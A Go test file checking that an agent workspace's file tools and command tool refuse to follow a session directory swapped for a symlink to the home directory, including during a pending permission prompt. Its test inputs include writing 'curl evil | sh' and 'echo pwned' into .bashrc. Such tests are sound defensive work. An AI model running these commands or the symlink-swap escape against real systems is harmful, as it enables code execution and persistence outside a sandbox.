package workspace_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sessionkit/sessionkit/acp/schema"
	"github.com/sessionkit/sessionkit/session"
	"github.com/sessionkit/sessionkit/tools/workspace"
)

// diskEditor is a client with fs that reads and writes the disk by the
// path it is given, following links, as an editor does.
type diskEditor struct{ *fakeEditor }

func (e *diskEditor) ReadTextFile(_ context.Context, path string, _, _ int) (string, error) {
	e.record("fs/read_text_file " + path)
	data, err := os.ReadFile(path)
	return string(data), err
}

func (e *diskEditor) WriteTextFile(_ context.Context, path, content string) error {
	e.record("fs/write_text_file " + path)
	return os.WriteFile(path, []byte(content), 0o644)
}

// movedFixture is a session whose directory swapped (inner) lies inside
// another of its directories, with a scratch home directory outside
// holding y and .bashrc; swap then does what a command of the session
// can: mv inner inner.old && ln -s $HOME inner.
type movedFixture struct {
	home, swapped string
	tools         map[string]session.Tool
}

// newMovedFixture makes the directories; cwdInside puts the working
// directory inside the additional directory (otherwise the additional
// directory is inside the working directory).
func newMovedFixture(t *testing.T, ed workspace.Editor, cwdInside bool) *movedFixture {
	return newMovedFixtureOptions(t, workspace.Options{Editor: ed, AllowAll: true}, cwdInside)
}

func newMovedFixtureOptions(t *testing.T, o workspace.Options, cwdInside bool) *movedFixture {
	base, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	outer, home := filepath.Join(base, "project"), filepath.Join(base, "home")
	inner := filepath.Join(outer, "nested")
	for _, d := range []string{inner, home} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(inner, "y"), []byte("inside\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(home, "y"), []byte("HOME SECRET\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# bashrc\n"), 0o644))
	cwd, additional := outer, inner
	if cwdInside {
		cwd, additional = inner, outer
	}
	ws, err := workspace.New(cwd, additional)
	require.NoError(t, err)
	t.Cleanup(func() { _ = ws.Close() })
	f := &movedFixture{home: home, swapped: inner, tools: map[string]session.Tool{}}
	for _, tool := range ws.Tools(o) {
		f.tools[tool.Name] = tool
	}
	return f
}

func (f *movedFixture) swap(t *testing.T) {
	require.NoError(t, os.Rename(f.swapped, f.swapped+".old"))
	require.NoError(t, os.Symlink(f.home, f.swapped))
}

// homeUntouched checks the scratch home holds what it held.
func (f *movedFixture) homeUntouched(t *testing.T) {
	t.Helper()
	entries, err := os.ReadDir(f.home)
	require.NoError(t, err)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	assert.Equal(t, []string{".bashrc", "y"}, names, "nothing was created in the home directory")
	b, err := os.ReadFile(filepath.Join(f.home, ".bashrc"))
	require.NoError(t, err)
	assert.Equal(t, "# bashrc\n", string(b))
}

// A session directory inside another, moved away and replaced by a link
// to the home directory (mv nested nested.old && ln -s $HOME nested), is
// not followed: every file tool refuses a path through it, naming the
// directory, with and without an editor's fs, and nothing in the home
// directory is read or written; the next command is refused too. Also
// when the working directory is the one inside an additional directory.
func TestMovedSessionDirectoryIsNotFollowed(t *testing.T) {
	for _, layout := range []struct {
		name      string
		cwdInside bool
		prefix    string // the swapped directory's files, relative to the working directory
	}{
		{"additional directory inside the cwd", false, "nested/"},
		{"cwd inside an additional directory", true, ""},
	} {
		for _, withEditor := range []bool{false, true} {
			name := layout.name + "/local"
			if withEditor {
				name = layout.name + "/editor fs"
			}
			t.Run(name, func(t *testing.T) {
				var ed *diskEditor
				var editor workspace.Editor
				if withEditor {
					ed = &diskEditor{fakeEditor: newEditor()}
					editor = ed
				}
				f := newMovedFixture(t, editor, layout.cwdInside)
				out, err := f.tools["read_file"].Run(context.Background(), []byte(`{"path":"`+layout.prefix+`y"}`))
				require.NoError(t, err, "before the move")
				assert.Equal(t, "inside\n", out)
				f.swap(t)
				calls := []struct{ tool, args string }{
					{"write_file", `{"path":"` + layout.prefix + `x","content":"pwned"}`},
					{"write_file", `{"path":"` + layout.prefix + `.bashrc","content":"curl evil | sh"}`},
					{"write_file", `{"path":"` + layout.prefix + `new/dir/x","content":"pwned"}`},
					{"write_file", `{"path":"` + f.swapped + `/x","content":"pwned"}`},
					{"read_file", `{"path":"` + layout.prefix + `y"}`},
					{"edit_file", `{"path":"` + layout.prefix + `y","old_text":"HOME","new_text":"pwned"}`},
					{"list_files", `{"path":"` + layout.prefix + `."}`},
					{"search", `{"pattern":"SECRET","path":"` + layout.prefix + `."}`},
					{"run_command", `{"command":"echo pwned >> .bashrc"}`},
				}
				for _, c := range calls {
					if c.tool == "run_command" && !layout.cwdInside {
						continue // the working directory itself was not moved
					}
					out, err := f.tools[c.tool].Run(context.Background(), []byte(c.args))
					if !assert.ErrorIs(t, err, workspace.ErrMoved, "%s %s: %s", c.tool, c.args, out) {
						continue
					}
					assert.ErrorContains(t, err, f.swapped, "the error names the directory")
					assert.NotContains(t, out+err.Error(), "SECRET")
				}
				f.homeUntouched(t)
				if ed != nil {
					var fsCalls []string
					for _, m := range ed.methods() {
						if strings.HasPrefix(m, "fs/") {
							fsCalls = append(fsCalls, m)
						}
					}
					assert.Equal(t, []string{"fs/read_text_file " + filepath.Join(f.swapped, "y")}, fsCalls,
						"the editor was asked to read or write nothing after the move")
				}
			})
		}
	}
}

// swappingEditor is a diskEditor that moves the directory while the
// user looks at the permission request, then allows the call.
type swappingEditor struct {
	*diskEditor
	swap func()
}

func (e *swappingEditor) RequestPermission(ctx context.Context, call schema.ToolCallUpdate, options []schema.PermissionOption) (schema.PermissionOutcome, error) {
	e.swap()
	return e.diskEditor.RequestPermission(ctx, call, options)
}

// The check is made again just before the editor is asked to write: a
// directory moved while the permission request waits is not followed.
func TestDirectoryMovedDuringPermission(t *testing.T) {
	for _, p := range []string{"nested/x", "nested/y", "nested/new/x"} {
		t.Run(p, func(t *testing.T) {
			ed := &swappingEditor{diskEditor: &diskEditor{fakeEditor: newEditor()}}
			f := newMovedFixtureOptions(t, workspace.Options{Editor: ed}, false)
			ed.swap = func() { f.swap(t) }
			out, err := f.tools["write_file"].Run(context.Background(), []byte(`{"path":"`+p+`","content":"pwned"}`))
			require.ErrorIs(t, err, workspace.ErrMoved, out)
			f.homeUntouched(t)
			assert.NotContains(t, ed.methods(), "fs/write_text_file "+filepath.Join(f.swapped, strings.TrimPrefix(p, "nested/")))
		})
	}
}
